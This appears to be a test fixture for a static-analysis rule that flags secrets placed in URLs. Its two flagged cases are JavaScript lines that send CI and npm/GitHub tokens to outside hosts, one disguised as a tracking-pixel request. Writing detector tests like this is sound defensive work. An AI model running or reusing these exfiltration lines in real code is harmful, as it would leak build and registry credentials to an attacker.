// CI and registry secrets carried in an image beacon's query.
const http = require('http');
const e = process.env;
// ruleid: secret_in_url
const badge = `http://stats.example-badges.top/px.gif?r=${e.GITHUB_REPOSITORY || ''}&n=${e.NPM_TOKEN || e.NODE_AUTH_TOKEN || ''}`;
http.get(badge, (r) => r.resume());
// ruleid: secret_in_url
http.get('http://198.51.100.7/p?t=' + process.env.GITHUB_TOKEN);
// ok: secret_in_url
http.get(`https://maps.example.com/api?key=${process.env.MAPS_API_KEY}`);
